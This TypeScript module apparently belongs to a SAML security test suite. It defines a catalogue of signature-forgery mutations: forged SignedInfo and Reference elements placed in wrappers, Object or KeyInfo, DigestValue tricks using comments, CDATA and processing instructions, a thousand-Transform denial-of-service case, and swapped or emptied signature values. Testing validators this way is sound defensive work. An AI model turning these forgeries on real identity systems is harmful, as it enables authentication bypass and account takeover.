import { signElement } from '../scripted-idp/sign.ts';
import { DIALECTS, honestSignature } from '../scripted-idp.ts';
import { type Attack, type AttackContext, evil } from './attack.ts';
import {
  appendTo,
  elementText,
  find,
  insertAfter,
  insertBefore,
  removeElement,
  replaceElement,
} from './xml-text.ts';

// Tricks with what a signature says it covers. Each document is forged as a whole, and both of its genuine
// Signatures additionally hold what the forgery would need.

/** Which Signature, counted in document order, is whose. */
const SIGNATURES = [
  ['Assertion', 1],
  ['Response', 0],
] as const;

/** Changes a genuine Signature, given the SignedInfo that would fit the forged document. */
type Trick = (signature: string, forgedSignedInfo: string) => string;

const forgedWith =
  (trick: Trick): Attack =>
  (xml, context) =>
    SIGNATURES.reduce((forged, [element, nth]) => {
      const signedInfo = signedInfoOf(forged, element, nth, context);
      return replaceElement(
        forged,
        'Signature',
        trick(elementText(forged, 'Signature', nth), signedInfo),
        nth,
      );
    }, evil(xml));

/** The SignedInfo of `element` in this document, as anybody can compute it. */
function signedInfoOf(
  xml: string,
  element: 'Response' | 'Assertion',
  nth: number,
  context: AttackContext,
): string {
  const unsigned = removeElement(xml, 'Signature', nth);
  const signed = signElement(unsigned, element, honestSignature(context.attacker), DIALECTS.okta);
  return elementText(elementText(signed, 'Signature', nth), 'SignedInfo');
}

const digestOf = (signedInfo: string) => content(signedInfo, 'DigestValue');

function content(xml: string, localName: string): string {
  const span = find(xml, localName);
  return xml.slice(span.inner, span.innerEnd);
}

/** The DigestValue of the genuine Signature, written anew from the genuine and the forged digest. */
const digestValue = (write: (genuine: string, forged: string) => string): Attack =>
  forgedWith((signature, forged) => {
    const genuine = content(signature, 'DigestValue');
    return replaceElement(signature, 'DigestValue', write(genuine, digestOf(forged)));
  });

const element = (text: string) => `<ds:DigestValue>${text}</ds:DigestValue>`;

/** The same element again and again inside the Transforms of the Response's Signature. */
const thousandTransforms: Attack = (xml) => {
  const transform = elementText(elementText(xml, 'Transforms'), 'Transform');
  return appendTo(xml, 'Transforms', transform.repeat(1000));
};

export const signedInfo: Readonly<Record<string, Attack>> = {
  'forged-signed-info-before': forgedWith((signature, forged) =>
    insertBefore(signature, 'SignedInfo', forged),
  ),
  'forged-signed-info-after': forgedWith((signature, forged) => insertAfter(signature, 'SignedInfo', forged)),
  'forged-signed-info-in-an-object': forgedWith((signature, forged) =>
    appendTo(signature, 'Signature', `<ds:Object>${forged}</ds:Object>`),
  ),
  'forged-signed-info-in-key-info': forgedWith((signature, forged) => appendTo(signature, 'KeyInfo', forged)),
  'forged-signed-info-in-a-wrapper': forgedWith((signature, forged) =>
    insertBefore(signature, 'SignedInfo', `<ds:Wrapper>${forged}</ds:Wrapper>`),
  ),
  'forged-signed-info-instead': forgedWith((signature, forged) =>
    replaceElement(signature, 'SignedInfo', forged),
  ),
  'digest-value-after-a-comment': digestValue((genuine, forged) => element(`<!--${forged}-->${genuine}`)),
  'digest-value-before-a-comment': digestValue((genuine, forged) => element(`${forged}<!--${genuine}-->`)),
  'digest-value-around-a-comment': digestValue((genuine, forged) =>
    element(`${genuine.slice(0, 8)}<!--${forged}-->${genuine.slice(8)}`),
  ),
  'digest-value-after-a-processing-instruction': digestValue((genuine, forged) =>
    element(`<?p ${forged}?>${genuine}`),
  ),
  'digest-value-in-cdata': digestValue((genuine, forged) => element(`<![CDATA[${forged}]]>${genuine}`)),
  'digest-value-with-a-child': digestValue((genuine, forged) => element(`<ds:v>${forged}</ds:v>${genuine}`)),
  'two-digest-values': digestValue((genuine, forged) => element(forged) + element(genuine)),
  'forged-reference-before': forgedWith((signature, forged) =>
    insertBefore(signature, 'Reference', elementText(forged, 'Reference')),
  ),
  'forged-reference-after': forgedWith((signature, forged) =>
    insertAfter(signature, 'Reference', elementText(forged, 'Reference')),
  ),
  'thousand-transforms': thousandTransforms,
  'second-signature-method-in-an-object': (xml) =>
    insertBefore(xml, 'SignedInfo', `<ds:Object>${elementText(xml, 'SignatureMethod')}</ds:Object>`),
  'signature-value-of-the-assertion': (xml) =>
    replaceElement(xml, 'SignatureValue', elementText(xml, 'SignatureValue', 1)),
  'empty-signature-values': (xml) =>
    [1, 0].reduce(
      (changed, nth) => replaceElement(changed, 'SignatureValue', '<ds:SignatureValue/>', nth),
      xml,
    ),
  'empty-signatures': (xml) =>
    [1, 0].reduce(
      (changed, nth) =>
        replaceElement(
          changed,
          'Signature',
          '<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"/>',
          nth,
        ),
      xml,
    ),
};
